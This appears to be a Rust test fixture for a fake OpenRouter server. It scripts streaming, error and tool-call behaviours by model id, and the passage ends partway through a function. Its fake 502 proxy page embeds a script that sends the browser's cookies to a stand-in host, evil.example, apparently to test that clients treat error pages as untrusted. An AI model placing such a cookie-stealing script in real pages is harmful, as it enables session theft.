//! Scripted behaviours of `POST /api/v1/responses`, chosen by the request's `model` id.
//!
//! Each scenario is written once as a script of SSE steps (events, raw bytes, pauses, a cut)
//! plus its outcome; the non-streaming answer is derived from that outcome so both modes carry
//! the same content. Event shapes follow the Responses streaming schema in OpenRouter's OpenAPI
//! document (`StreamEvents`): every event has `type` and a `sequence_number` counting from 0.
//! Token counts are estimates (characters / 4 + 1) and the cost is derived from them with the
//! catalogue's fake prices, so tests can predict the numbers they should see downstream.

use std::{
    sync::atomic::{AtomicU64, Ordering},
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use serde_json::{Map, Value, json};

use crate::FakeConfig;

/// The error statuses `fake/status-<code>` can answer with.
pub const STATUS_CODES: [u16; 9] = [401, 402, 403, 408, 413, 429, 500, 502, 503];

/// Cached input tokens reported in every usage object. Fixed, as the brief asks, so suites can
/// look for it downstream; on a tiny input it can exceed `input_tokens`.
pub const CACHED_TOKENS: u64 = 2;

/// The three deltas sent by the scenarios that break off early (drop, no-terminal, mid-failure).
pub const PARTIAL_DELTAS: [&str; 3] = ["one ", "two ", "three "];

/// The reasoning summary streamed by `fake/reasoning`.
pub const REASONING_SUMMARY: &str =
    "**Planning an echo reply**\n\nRepeating the message back (fake).";

/// The raw reasoning text streamed by `fake/reasoning`.
pub const REASONING_TEXT: &str =
    "The user wants their words repeated back, so the answer starts with echo.";

/// The bad SSE event `fake/malformed` slips into its stream.
pub const MALFORMED_EVENT: &str = "data: {not json\n\n";

/// How long a cut waits after the last frame: long enough for hyper to flush what was written,
/// so the client really sees the deltas before the connection dies.
const FLUSH_GRACE: Duration = Duration::from_millis(10);

/// The message carried by `fake/failed` and `fake/mid-failure`.
const FAILURE_MESSAGE: &str = "The model provider failed (fake)";

/// Which behaviour a model id selects.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scenario {
    /// `fake/echo`: answers "echo: " plus the last user message, word by word.
    Echo,
    /// `fake/reasoning`: a reasoning item (summary, text, encrypted content), then the echo.
    Reasoning,
    /// `fake/slow`: `slow_deltas` deltas `tok<i> ` with `slow_delay_ms` between them.
    Slow,
    /// `fake/drop`: three deltas, then the connection is aborted.
    Drop,
    /// `fake/no-terminal`: three deltas, then a clean end without a terminal event.
    NoTerminal,
    /// `fake/malformed`: the echo stream with one event that is not JSON.
    Malformed,
    /// `fake/failed`: `response.created`, then `response.failed`.
    Failed,
    /// `fake/mid-failure`: three deltas, then `response.failed`.
    MidFailure,
    /// `fake/error-event`: `response.created`, then an `error` event (rate limited).
    ErrorEvent,
    /// `fake/status-<code>`: that HTTP status before any streaming.
    Status(u16),
    /// `fake/html`: status 200 with an HTML page.
    Html,
    /// `fake/html-502`: status 502 with a proxy's HTML error page (title, style, script,
    /// markup), [`HTML_502_PAGE`], instead of OpenRouter's JSON error.
    Html502,
    /// `fake/endless-line`: status 200 and an event stream whose first `data:` line never
    /// ends: [`ENDLESS_LINE_BYTES`] bytes without a line break, then a clean end.
    EndlessLine,
    /// `fake/responses-unsupported`: `/responses` answers 400 `unsupported_endpoint`; `/chat/completions`
    /// streams a chat answer with reasoning and a usage chunk carrying `cost`.
    ResponsesUnsupported,
    /// `fake/effort-picky`: 400 naming `reasoning.effort` unless the effort is `low` or `high`.
    EffortPicky,
    /// `fake/signature`: 400 "thinking block cannot be modified" when the input holds a reasoning item.
    Signature,
    /// `fake/citations`: the echo stream plus `url_citation` annotations (one URL twice, one tagged).
    Citations,
    /// `fake/incomplete`: some deltas, then `response.incomplete` for `max_output_tokens`.
    Incomplete,
    /// `fake/image`: the echo answer plus an `image_generation_call` item whose `result` is a
    /// 1×1 PNG in base64.
    Image,
    /// `fake/tool-call`: calls one tool (arguments streamed as deltas); once the input carries
    /// tool outputs, answers with them. See [`ToolPlan`] for which tool and how often.
    ToolCall,
    /// `fake/tool-call-late`: as `fake/tool-call`, but the arguments arrive only in
    /// `response.completed` (empty in every item event), a quirk some providers have.
    ToolCallLate,
    /// `fake/tool-parallel`: calls every offered function tool (or every `use:` one) at once.
    ToolParallel,
    /// `fake/tool-many`: calls the same tool [`TOOL_MANY_CALLS`] times (or `times:N`) at once.
    ToolMany,
    /// `fake/tool-forever`: calls a tool on every turn, until `tool_choice` is `none`.
    ToolForever,
    /// `fake/tool-call-bad`: three broken calls of one tool: arguments that are not JSON, empty
    /// arguments, and arguments its schema does not allow ([`BAD_ARGUMENTS`]).
    ToolCallBad,
    /// `fake/no-thoughts`: 400 "include_thoughts is only enabled when thinking is enabled" (in
    /// `metadata.raw`) while the request asks for reasoning; the echo without it.
    NoThoughts,
    /// `fake/flaky-start`: the first [`FLAKY_START_CUTS`] identical requests are cut before any
    /// event; the next one gets the echo.
    FlakyStart,
    /// `fake/cut-start`: every request is cut before any event.
    CutStart,
    /// `fake/slow-start`: the echo, with [`SLOW_START_PAUSE`] before the first output event.
    SlowStart,
    /// `fake/typed-error`: 503 in OpenRouter's typed shape (`metadata.error_type`, an
    /// `availability` block, no `metadata.raw`).
    TypedError,
    /// `fake/chat-bridge`: `/responses` is unsupported; `/chat/completions` streams reasoning as
    /// `reasoning_details` fragments (with a signature), the echo, a URL citation and, when the
    /// request offers tools and holds no tool result yet, a call of a weather tool (else the
    /// first one) in three argument fragments.
    ChatBridge,
    /// `fake/unsupported-stream`: `/responses` streams `response.failed` with code
    /// `unsupported_endpoint`: right after `response.in_progress`, or after the first text delta
    /// when the user text contains "late"; `/chat/completions` answers the echo.
    UnsupportedStream,
    /// `fake/fusion`: an `openrouter:fusion` run ([`FUSION_PANEL`] answering, one more model
    /// failing, the analysis, a cited source), then the echo.
    Fusion,
    /// `fake/no-deltas`: no delta events at all; the reasoning summary arrives only in
    /// `response.reasoning_summary_text.done` and the echo only in `response.output_text.done`
    /// and the finished message (as some providers send it).
    NoDeltas,
    /// `fake/refusal`: the model refuses: [`REFUSAL`] as `response.refusal.delta` events and a
    /// message whose content is one `refusal` part.
    Refusal,
    /// `fake/stall`: [`STALL_DELTAS`], then the stream stays open and silent for [`STALL_HOLD`]
    /// before it completes (a stuck upstream; its connection closed early is counted).
    Stall,
    /// `fake/flood`: [`FLOOD_DELTAS`] deltas of [`FLOOD_DELTA_CHARS`] characters each, as fast as
    /// they can be written (more than a socket buffers, for clients that stop reading).
    Flood,
    /// `fake/server-tools`: finished `openrouter:web_search` (with sources), `web_fetch`,
    /// `datetime`, a failed `advisor` and a `file_search_call` item, then the echo.
    ServerTools,
}

/// The arguments of `fake/tool-call-bad`'s three calls.
pub const BAD_ARGUMENTS: [&str; 3] = ["{\"city\": ", "", "{\"unexpected\":true}"];

/// The reasoning summary a tool scenario streams before its calls (its item carries encrypted
/// content, which the next turn must send back).
pub const TOOL_REASONING: &str = "Deciding which tool to call (fake).";

/// How many calls `fake/tool-many` makes by default.
pub const TOOL_MANY_CALLS: usize = 6;

/// The answer of a tool scenario once it has seen tool outputs: this prefix, then every
/// `function_call_output` of the input in order, joined by ` | `.
pub const TOOL_ANSWER_PREFIX: &str = "tool results: ";

impl Scenario {
    /// Every scenario model id, in catalogue order.
    pub const MODEL_IDS: [&'static str; 46] = [
        "fake/echo",
        "fake/reasoning",
        "fake/slow",
        "fake/drop",
        "fake/no-terminal",
        "fake/malformed",
        "fake/failed",
        "fake/mid-failure",
        "fake/error-event",
        "fake/status-401",
        "fake/status-402",
        "fake/status-403",
        "fake/status-408",
        "fake/status-413",
        "fake/status-429",
        "fake/status-500",
        "fake/status-502",
        "fake/status-503",
        "fake/html",
        "fake/responses-unsupported",
        "fake/effort-picky",
        "fake/signature",
        "fake/citations",
        "fake/incomplete",
        "fake/image",
        "fake/tool-call",
        "fake/tool-call-late",
        "fake/tool-parallel",
        "fake/tool-many",
        "fake/tool-forever",
        "fake/tool-call-bad",
        "fake/no-thoughts",
        "fake/flaky-start",
        "fake/cut-start",
        "fake/slow-start",
        "fake/typed-error",
        "fake/chat-bridge",
        "fake/fusion",
        "fake/server-tools",
        "fake/unsupported-stream",
        "fake/no-deltas",
        "fake/refusal",
        "fake/stall",
        "fake/flood",
        "fake/html-502",
        "fake/endless-line",
    ];

    /// Realistic catalogue ids the fake answers like `fake/echo`, so suites can check the
    /// provider-specific parameters the host adds for them.
    pub const ECHOED_REALISTIC_IDS: [&'static str; 4] = [
        "anthropic/claude-sonnet-4.5",
        "google/gemini-2.5-flash",
        // A dated version next to its undated alias, for the exact-id lookup.
        "mistralai/mistral-small",
        "mistralai/mistral-small-2024-09-18",
    ];

    /// The scenario a model id selects, or `None` for a model the fake does not serve.
    #[must_use]
    pub fn from_model(model: &str) -> Option<Self> {
        if Self::ECHOED_REALISTIC_IDS.contains(&model) {
            return Some(Self::Echo);
        }
        // A variant suffix (`fake/echo:nitro`) or a preset (`fake/echo@preset/x`) selects the
        // base model's behaviour, as upstream.
        let model = match model.split_once([':', '@']) {
            Some((base, _)) if base.starts_with("fake/") => base,
            _ => model,
        };
        Some(match model {
            "fake/echo" => Self::Echo,
            "fake/reasoning" => Self::Reasoning,
            "fake/slow" => Self::Slow,
            "fake/drop" => Self::Drop,
            "fake/no-terminal" => Self::NoTerminal,
            "fake/malformed" => Self::Malformed,
            "fake/failed" => Self::Failed,
            "fake/mid-failure" => Self::MidFailure,
            "fake/error-event" => Self::ErrorEvent,
            "fake/html" => Self::Html,
            "fake/html-502" => Self::Html502,
            "fake/endless-line" => Self::EndlessLine,
            "fake/responses-unsupported" => Self::ResponsesUnsupported,
            "fake/effort-picky" => Self::EffortPicky,
            "fake/signature" => Self::Signature,
            "fake/citations" => Self::Citations,
            "fake/incomplete" => Self::Incomplete,
            "fake/image" => Self::Image,
            "fake/tool-call" => Self::ToolCall,
            "fake/tool-call-late" => Self::ToolCallLate,
            "fake/tool-parallel" => Self::ToolParallel,
            "fake/tool-many" => Self::ToolMany,
            "fake/tool-forever" => Self::ToolForever,
            "fake/tool-call-bad" => Self::ToolCallBad,
            "fake/no-thoughts" => Self::NoThoughts,
            "fake/flaky-start" => Self::FlakyStart,
            "fake/cut-start" => Self::CutStart,
            "fake/slow-start" => Self::SlowStart,
            "fake/typed-error" => Self::TypedError,
            "fake/chat-bridge" => Self::ChatBridge,
            "fake/unsupported-stream" => Self::UnsupportedStream,
            "fake/fusion" => Self::Fusion,
            "fake/server-tools" => Self::ServerTools,
            "fake/no-deltas" => Self::NoDeltas,
            "fake/refusal" => Self::Refusal,
            "fake/stall" => Self::Stall,
            "fake/flood" => Self::Flood,
            other => {
                let code = other.strip_prefix("fake/status-")?.parse::<u16>().ok()?;
                if !STATUS_CODES.contains(&code) {
                    return None;
                }
                Self::Status(code)
            }
        })
    }
}

/// Estimated tokens for a text: characters / 4 + 1.
#[must_use]
pub fn token_estimate(text: &str) -> u64 {
    u64::try_from(text.chars().count() / 4)
        .unwrap_or(u64::MAX)
        .saturating_add(1)
}

/// The `cost` reported for a turn, in USD: the catalogue's fake prices (1e-6 per input token,
/// 2e-6 per output token). Computed in whole micro-dollars first so the float is the nearest
/// double to the exact decimal and prints without noise.
#[must_use]
#[expect(
    clippy::cast_precision_loss,
    reason = "token counts stay far below 2^52 micro-dollars"
)]
pub fn fake_cost(input_tokens: u64, output_tokens: u64) -> f64 {
    let micro_dollars = input_tokens.saturating_add(output_tokens.saturating_mul(2));
    micro_dollars as f64 / 1_000_000.0
}

/// The text `fake/echo` answers for a Responses request body.
#[must_use]
pub fn echo_answer(request: &Value) -> String {
    format!(
        "echo: {}",
        last_user_text(request.get("input").unwrap_or(&Value::Null))
    )
}

/// The estimated input tokens for a Responses request body: every text the model would read
/// (instructions, message contents, tool outputs and call arguments), characters / 4 + 1.
#[must_use]
pub fn input_tokens(request: &Value) -> u64 {
    let chars = request
        .get("instructions")
        .and_then(Value::as_str)
        .map_or(0, |s| s.chars().count())
        + request.get("input").map_or(0, text_chars);
    u64::try_from(chars / 4)
        .unwrap_or(u64::MAX)
        .saturating_add(1)
}

/// One piece of a scripted reply body.
#[derive(Clone, Debug)]
pub(crate) enum Step {
    /// An SSE event, written as `data: {json}\n\n`.
    Event(Value),
    /// Bytes written as they are (the SSE comment, a malformed event, a JSON body).
    Raw(String),
    /// Bytes that are not text, or one buffer repeated (cheap to clone).
    Bytes(bytes::Bytes),
    /// Wait before the next step.
    Pause(Duration),
    /// Abort the body with an error: no terminal event, no clean end of the chunked body.
    Cut,
}

/// An HTTP answer in the fake's own terms; `lib.rs` turns it into a hyper response.
#[derive(Clone, Debug)]
pub(crate) struct Reply {
    pub(crate) status: u16,
    pub(crate) content_type: &'static str,
    /// Extra headers; names must be lowercase (they become `HeaderName::from_static`).
    pub(crate) headers: Vec<(&'static str, &'static str)>,
    pub(crate) steps: Vec<Step>,
}

impl Reply {
    /// A complete JSON body.
    pub(crate) fn json(status: u16, body: &Value) -> Self {
        Self {
            status,
            content_type: "application/json",
            headers: Vec::new(),
            steps: vec![Step::Raw(body.to_string())],
        }
    }
}

/// The OpenRouter error body `{"error":{"code":<status>,"message":...}}`.
pub(crate) fn error_body(status: u16, message: &str) -> Value {
    json!({ "error": { "code": status, "message": message } })
}

/// The answer to a valid request for `scenario`.
pub(crate) fn reply(
    scenario: Scenario,
    request: &Value,
    stream: bool,
    config: &FakeConfig,
) -> Reply {
    let turn = Turn::new(request);
    let script = match scenario {
        Scenario::Status(code) => return status_reply(code),
        Scenario::Html => return html_reply(),
        Scenario::Html502 => return html_502_reply(),
        Scenario::EndlessLine => return endless_line_reply(),
        Scenario::Echo => echo_script(&turn, false),
        Scenario::Malformed => echo_script(&turn, true),
        Scenario::Reasoning => reasoning_script(&turn),
        Scenario::Slow => slow_script(&turn, config),
        Scenario::Drop => partial_script(&turn, Ending::Cut),
        Scenario::NoTerminal => partial_script(&turn, Ending::Clean),
        Scenario::MidFailure => partial_script(&turn, Ending::Failed),
        Scenario::Failed => failed_script(&turn),
        Scenario::ErrorEvent => error_event_script(&turn),
        Scenario::ResponsesUnsupported => return responses_unsupported_reply(),
        Scenario::EffortPicky => {
            let effort = request.pointer("/reasoning/effort").and_then(Value::as_str);
            if !matches!(effort, Some("low" | "high")) {
                return effort_refusal_reply();
            }
            echo_script(&turn, false)
        }
        Scenario::Signature => {
            if has_reasoning_item(request) {
                return signature_refusal_reply();
            }
            echo_script(&turn, false)
        }
        Scenario::Citations => citations_script(&turn),
        Scenario::Incomplete => incomplete_script(&turn),
        Scenario::Image => image_script(&turn),
        Scenario::ToolCall
        | Scenario::ToolCallLate
        | Scenario::ToolParallel
        | Scenario::ToolMany
        | Scenario::ToolForever
        | Scenario::ToolCallBad => tool_script(scenario, &turn, request),
        Scenario::NoThoughts => {
            if asks_for_reasoning(request) {
                return no_thoughts_refusal_reply();
            }
            echo_script(&turn, false)
        }
        // `lib.rs` cuts the first attempts; the ones after get the echo.
        Scenario::FlakyStart => echo_script(&turn, false),
        Scenario::CutStart => return cut_before_output_reply(),
        Scenario::SlowStart => slow_start_script(&turn),
        Scenario::TypedError => return typed_error_reply(),
        Scenario::ChatBridge => return responses_unsupported_reply(),
        Scenario::UnsupportedStream => unsupported_stream_script(&turn),
        Scenario::Fusion => fusion_script(&turn),
        Scenario::ServerTools => server_tools_script(&turn),
        Scenario::NoDeltas => no_deltas_script(&turn),
        Scenario::Refusal => refusal_script(&turn),
        Scenario::Stall => stall_script(&turn),
        Scenario::Flood => flood_script(&turn),
    };
    if stream {
        script.into_sse()
    } else {
        script.into_json()
    }
}

fn status_reply(code: u16) -> Reply {
    let message = match code {
        401 => "User not found (fake)",
        402 => "Insufficient credits (fake)",
        403 => "Input was flagged by the moderation guardrail (fake)",
        408 => "Request timed out (fake)",
        413 => "Request entity too large for the provider (fake)",
        429 => "Rate limit exceeded, try again later (fake)",
        500 => "Internal Server Error (fake)",
        502 => "Provider returned error (fake)",
        _ => "No allowed providers are available for the selected model (fake)",
    };
    let body = json!({
        "error": {
            "code": code,
            "message": message,
            "metadata": {
                "provider_name": "FakeProvider",
                "raw": "{\"error\":{\"message\":\"upstream said no\"}}",
            },
        },
    });
    let mut reply = Reply::json(code, &body);
    if code == 429 {
        reply.headers = vec![
            ("retry-after", "7"),
            ("x-ratelimit-scope", "user"),
            ("x-ratelimit-limit", "20"),
            ("x-ratelimit-remaining", "0"),
            ("x-ratelimit-reset", "1735787045000"),
        ];
    }
    reply
}

/// The page `fake/html-502` answers with: what a proxy in front of OpenRouter sends.
pub const HTML_502_PAGE: &str = "<!DOCTYPE html>\n<html>\n<head><title>502 Bad Gateway</title>\n\
    <style>body { font-family: sans-serif; color: #c00 }</style>\n\
    <script>window.location = 'https://evil.example/steal?c=' + document.cookie;</script>\n\
    </head>\n<body>\n<center><h1>502   Bad Gateway</h1></center>\n\
    <!-- upstream: pool-7 node-3 -->\n\
    <hr><center>fake-proxy/1.0 &amp; friends</center>\n</body>\n</html>\n";

/// Words of [`HTML_502_PAGE`] its plain-text excerpt keeps (title, heading, footer).
pub const EXCERPT_MARKERS: [&str; 3] =
    ["502 Bad Gateway", "fake-proxy/1.0 & friends", "Bad Gateway"];

/// Bytes of the line `fake/endless-line` never ends (80 MiB).
pub const ENDLESS_LINE_BYTES: usize = 80 << 20;

fn html_502_reply() -> Reply {
    Reply {
        status: 502,
        content_type: "text/html",
        headers: Vec::new(),
        steps: vec![Step::Raw(HTML_502_PAGE.to_owned())],
    }
}

fn endless_line_reply() -> Reply {
    const PIECE: usize = 1 << 20;
    // One shared buffer, sent again and again: the fake does not hold 80 MiB.
    let piece = bytes::Bytes::from(vec![b'a'; PIECE]);
    let mut steps = vec![
        Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned()),
        Step::Raw(r#"data: {"type":"response.output_text.delta","delta":""#.to_owned()),
    ];
    steps.extend(std::iter::repeat_n(
        Step::Bytes(piece),
        ENDLESS_LINE_BYTES / PIECE,
    ));
    Reply {
        status: 200,
        content_type: "text/event-stream",
        headers: Vec::new(),
        steps,
    }
}

fn html_reply() -> Reply {
    Reply {
        status: 200,
        content_type: "text/html; charset=utf-8",
        headers: Vec::new(),
        steps: vec![Step::Raw(
            "<!DOCTYPE html>\n<html><head><title>Just a moment...</title></head>\
             <body><h1>Checking your browser before accessing openrouter.ai (fake)</h1></body></html>\n"
                .to_owned(),
        )],
    }
}

/// `/responses` for a model that only speaks Chat Completions.
fn responses_unsupported_reply() -> Reply {
    Reply::json(
        400,
        &json!({ "error": {
            "code": "unsupported_endpoint",
            "message": "Responses API is not supported for this model",
        } }),
    )
}

/// The provider refusal `fake/effort-picky` gives for an effort other than `low`/`high`.
fn effort_refusal_reply() -> Reply {
    let raw = json!({ "error": {
        "param": "reasoning.effort",
        "code": "unsupported_value",
        "message": "Unsupported value. Supported values are: 'low', 'high'.",
    } });
    Reply::json(
        400,
        &json!({ "error": {
            "code": 400,
            "message": "Provider returned error",
            "metadata": { "provider_name": "FakeProvider", "raw": raw.to_string() },
        } }),
    )
}

/// The Anthropic-style refusal of replayed reasoning `fake/signature` gives.
fn signature_refusal_reply() -> Reply {
    let raw = json!({ "type": "error", "error": {
        "type": "invalid_request_error",
        "message": "thinking block cannot be modified",
    } });
    Reply::json(
        400,
        &json!({ "error": {
            "code": 400,
            "message": "Provider returned error",
            "metadata": { "provider_name": "FakeProvider", "raw": raw.to_string() },
        } }),
    )
}

/// Whether a Responses `input` replays a reasoning item.
fn has_reasoning_item(request: &Value) -> bool {
    request
        .get("input")
        .and_then(Value::as_array)
        .is_some_and(|items| items.iter().any(|i| i["type"] == "reasoning"))
}

/// The citations `fake/citations` annotates its answer with: one page twice, one with the
/// `utm_source=openai` tag, so de-duplication and tag stripping downstream are observable.
pub const CITATION_URLS: [&str; 3] = [
    "https://a.example/page",
    "https://a.example/page",
    "https://b.example/doc?utm_source=openai",
];

/// The deltas `fake/incomplete` sends before stopping at its token limit.
pub const INCOMPLETE_DELTAS: [&str; 2] = ["cut ", "short "];

/// The text `fake/responses-unsupported` and `fake/echo` answer on `/chat/completions`, and the
/// reasoning `fake/responses-unsupported` streams there.
pub const CHAT_REASONING: &str = "Thinking over chat completions (fake).";

/// The answer to `POST /chat/completions`, or `None` for a scenario that only speaks Responses.
pub(crate) fn chat_reply(scenario: Scenario, request: &Value) -> Option<Reply> {
    let reasoning = match scenario {
        Scenario::Echo | Scenario::UnsupportedStream => "",
        Scenario::ResponsesUnsupported => CHAT_REASONING,
        Scenario::ChatBridge => return Some(chat_bridge_reply(request)),
        // Chat history replays Open WebUI's `reasoning_details`; a provider that cannot verify
        // them refuses the request, as Anthropic does for a modified thinking block.
        Scenario::Signature => {
            let replayed = request
                .get("messages")
                .and_then(Value::as_array)
                .is_some_and(|m| m.iter().any(|m| m.get("reasoning_details").is_some()));
            if replayed {
                return Some(signature_refusal_reply());
            }
            ""
        }
        _ => return None,
    };
    let text = format!(
        "echo: {}",
        last_user_text(request.get("messages").unwrap_or(&Value::Null))
    );
    let model = request
        .get("model")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let id = fresh_id("gen");
    let created = unix_now();
    let input_chars = request.get("messages").map_or(0, text_chars);
    let input_tokens = u64::try_from(input_chars / 4)
        .unwrap_or(u64::MAX)
        .saturating_add(1);
    let output_tokens = token_estimate(&text)
        + if reasoning.is_empty() {
            0
        } else {
            token_estimate(reasoning)
        };
    let usage = json!({
        "prompt_tokens": input_tokens,
        "completion_tokens": output_tokens,
        "total_tokens": input_tokens + output_tokens,
        "cost": fake_cost(input_tokens, output_tokens),
    });
    let chunk = |choices: Value| {
        json!({ "id": id, "object": "chat.completion.chunk", "created": created,
                "model": model, "choices": choices })
    };
    let stream = request.get("stream").and_then(Value::as_bool) == Some(true);
    if !stream {
        let mut message = json!({ "role": "assistant", "content": text });
        if !reasoning.is_empty() {
            message["reasoning"] = json!(reasoning);
        }
        return Some(Reply::json(
            200,
            &json!({ "id": id, "object": "chat.completion", "created": created, "model": model,
                     "choices": [{ "index": 0, "message": message, "finish_reason": "stop" }],
                     "usage": usage }),
        ));
    }
    let mut steps = vec![Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned())];
    if !reasoning.is_empty() {
        steps.push(Step::Event(chunk(json!([{ "index": 0,
            "delta": { "role": "assistant", "content": "", "reasoning": reasoning } }]))));
    }
    for word in words(&text) {
        steps.push(Step::Event(chunk(
            json!([{ "index": 0, "delta": { "content": word } }]),
        )));
    }
    steps.push(Step::Event(chunk(
        json!([{ "index": 0, "delta": {}, "finish_reason": "stop" }]),
    )));
    let mut last = chunk(json!([]));
    last["usage"] = usage;
    steps.push(Step::Event(last));
    steps.push(Step::Raw("data: [DONE]\n\n".to_owned()));
    Some(Reply {
        status: 200,
        content_type: "text/event-stream",
        headers: vec![("cache-control", "no-cache")],
        steps,
    })
}

/// The ids and echoed request fields one response carries.
struct Turn {
    response_id: String,
    message_id: String,
    reasoning_id: String,
    model: String,
    created_at: u64,
    /// Request fields a real response object repeats (`instructions`, `tools`, ...).
    echoed: Map<String, Value>,
    input_tokens: u64,
    answer: String,
}

impl Turn {
    fn new(request: &Value) -> Self {
        let defaults = [
            ("instructions", Value::Null),
            ("max_output_tokens", Value::Null),
            ("metadata", Value::Null),
            ("temperature", Value::Null),
            ("top_p", Value::Null),
            ("presence_penalty", Value::Null),
            ("frequency_penalty", Value::Null),
            ("tools", json!([])),
            ("tool_choice", json!("auto")),
            ("parallel_tool_calls", json!(true)),
        ];
        let echoed = defaults
            .into_iter()
            .map(|(key, default)| {
                let value = request.get(key).filter(|v| !v.is_null()).cloned();
                (key.to_owned(), value.unwrap_or(default))
            })
            .collect();
        Self {
            response_id: fresh_id("resp"),
            message_id: fresh_id("msg"),
            reasoning_id: fresh_id("rs"),
            model: request
                .get("model")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned(),
            created_at: unix_now(),
            echoed,
            input_tokens: input_tokens(request),
            answer: echo_answer(request),
        }
    }

    fn response(
        &self,
        status: &str,
        output: Vec<Value>,
        usage: Option<Value>,
        error: Option<Value>,
    ) -> Value {
        let mut object = Map::new();
        object.insert("id".to_owned(), json!(self.response_id));
        object.insert("object".to_owned(), json!("response"));
        object.insert("created_at".to_owned(), json!(self.created_at));
        let completed_at = (status == "completed").then(unix_now);
        object.insert("completed_at".to_owned(), json!(completed_at));
        object.insert("model".to_owned(), json!(self.model));
        object.insert("status".to_owned(), json!(status));
        object.insert("output".to_owned(), Value::Array(output));
        object.insert("error".to_owned(), error.unwrap_or(Value::Null));
        object.insert("incomplete_details".to_owned(), Value::Null);
        if let Some(usage) = usage {
            object.insert("usage".to_owned(), usage);
        }
        object.extend(self.echoed.clone());
        Value::Object(object)
    }

    /// The usage object: `output_tokens` counts the answer plus the reasoning, as upstream does.
    fn usage(&self, answer: &str, reasoning: &str) -> Value {
        let reasoning_tokens = if reasoning.is_empty() {
            0
        } else {
            token_estimate(reasoning)
        };
        let output_tokens = token_estimate(answer) + reasoning_tokens;
        let input_tokens = self.input_tokens;
        json!({
            "input_tokens": input_tokens,
            "input_tokens_details": { "cached_tokens": CACHED_TOKENS },
            "output_tokens": output_tokens,
            "output_tokens_details": { "reasoning_tokens": reasoning_tokens },
            "total_tokens": input_tokens + output_tokens,
            "cost": fake_cost(input_tokens, output_tokens),
            "is_byok": false,
            "cost_details": {
                "upstream_inference_cost": null,
                "upstream_inference_input_cost": fake_cost(input_tokens, 0),
                "upstream_inference_output_cost": fake_cost(0, output_tokens),
            },
        })
    }

    fn failure(&self, output: Vec<Value>) -> Value {
        self.response(
            "failed",
            output,
            None,
            Some(json!({ "code": "server_error", "message": FAILURE_MESSAGE })),
        )
    }
}

/// How a script ended, which decides the non-streaming answer.
enum Outcome {
    /// A terminal `response.completed` or `response.failed` carrying this response object.
    Terminal(Value),
    /// An `error` event; non-streaming it becomes this HTTP status with an OpenRouter body.
    ErrorEvent { status: u16, message: &'static str },
    /// The body ended cleanly without a terminal event; the response as far as it got.
    Unfinished(Value),
    /// The connection was cut; the response as far as it got.
    Cut(Value),
}

struct Script {
    steps: Vec<Step>,
    next_sequence: u64,
    malformed: bool,
    outcome: Outcome,
}

impl Script {
    fn new() -> Self {
        Self {
            steps: Vec::new(),
            next_sequence: 0,
            malformed: false,
            outcome: Outcome::Unfinished(Value::Null),
        }
    }

    fn event(&mut self, kind: &str, fields: Value) {
        let mut object = match fields {
            Value::Object(object) => object,
            _ => Map::new(),
        };
        object.insert("type".to_owned(), json!(kind));
        object.insert("sequence_number".to_owned(), json!(self.next_sequence));
        self.next_sequence += 1;
        self.steps.push(Step::Event(Value::Object(object)));
    }

    fn start(&mut self, turn: &Turn) {
        let response = turn.response("in_progress", Vec::new(), None, None);
        self.event("response.created", json!({ "response": response }));
        self.event("response.in_progress", json!({ "response": response }));
    }

    fn message_start(&mut self, turn: &Turn, output_index: usize) {
        self.event(
            "response.output_item.added",
            json!({
                "output_index": output_index,
                "item": message_item(&turn.message_id, "in_progress", None),
            }),
        );
        self.event(
            "response.content_part.added",
            json!({
                "item_id": turn.message_id,
                "output_index": output_index,
                "content_index": 0,
                "part": { "type": "output_text", "text": "", "annotations": [] },
            }),
        );
    }

    fn text_deltas<S: AsRef<str>>(
        &mut self,
        turn: &Turn,
        output_index: usize,
        deltas: &[S],
        pause: Duration,
    ) {
        for (i, delta) in deltas.iter().enumerate() {
            if i > 0 && !pause.is_zero() {
                self.steps.push(Step::Pause(pause));
            }
            self.event(
                "response.output_text.delta",
                json!({
                    "item_id": turn.message_id,
                    "output_index": output_index,
                    "content_index": 0,
                    "delta": delta.as_ref(),
                    "logprobs": [],
                }),
            );
        }
    }

    /// Closes the message item and returns it as it appears in the final `output`.
    fn message_finish(&mut self, turn: &Turn, output_index: usize, text: &str) -> Value {
        self.event(
            "response.output_text.done",
            json!({
                "item_id": turn.message_id,
                "output_index": output_index,
                "content_index": 0,
                "text": text,
                "logprobs": [],
            }),
        );
        self.event(
            "response.content_part.done",
            json!({
                "item_id": turn.message_id,
                "output_index": output_index,
                "content_index": 0,
                "part": { "type": "output_text", "text": text, "annotations": [] },
            }),
        );
        let item = message_item(&turn.message_id, "completed", Some(text));
        self.event(
            "response.output_item.done",
            json!({ "output_index": output_index, "item": item }),
        );
        item
    }

    fn message<S: AsRef<str>>(
        &mut self,
        turn: &Turn,
        output_index: usize,
        deltas: &[S],
        pause: Duration,
    ) -> Value {
        self.message_start(turn, output_index);
        self.text_deltas(turn, output_index, deltas, pause);
        let text: String = deltas.iter().map(AsRef::as_ref).collect();
        self.message_finish(turn, output_index, &text)
    }

    fn completed(&mut self, response: Value) {
        self.event("response.completed", json!({ "response": response }));
        self.outcome = Outcome::Terminal(response);
    }

    fn failed(&mut self, response: Value) {
        self.event("response.failed", json!({ "response": response }));
        self.outcome = Outcome::Terminal(response);
    }

    fn into_sse(self) -> Reply {
        let mut steps = Vec::with_capacity(self.steps.len() + 1);
        // OpenRouter opens every stream with this keep-alive comment.
        steps.push(Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned()));
        steps.extend(self.steps);
        Reply {
            status: 200,
            content_type: "text/event-stream",
            headers: vec![("cache-control", "no-cache")],
            steps,
        }
    }

    fn into_json(self) -> Reply {
        // A non-streaming client waits as long as the stream would have taken.
        let waited: Duration = self
            .steps
            .iter()
            .filter_map(|step| match step {
                Step::Pause(pause) => Some(*pause),
                _ => None,
            })
            .sum();
        let mut reply = match self.outcome {
            _ if self.malformed => Reply {
                status: 200,
                content_type: "application/json",
                headers: Vec::new(),
                steps: vec![Step::Raw("{not json".to_owned())],
            },
            Outcome::Terminal(response) | Outcome::Unfinished(response) => {
                Reply::json(200, &response)
            }
            Outcome::ErrorEvent { status, message } => {
                Reply::json(status, &error_body(status, message))
            }
            Outcome::Cut(response) => {
                let text = response.to_string();
                let half: String = text.chars().take(text.chars().count() / 2).collect();
                Reply {
                    status: 200,
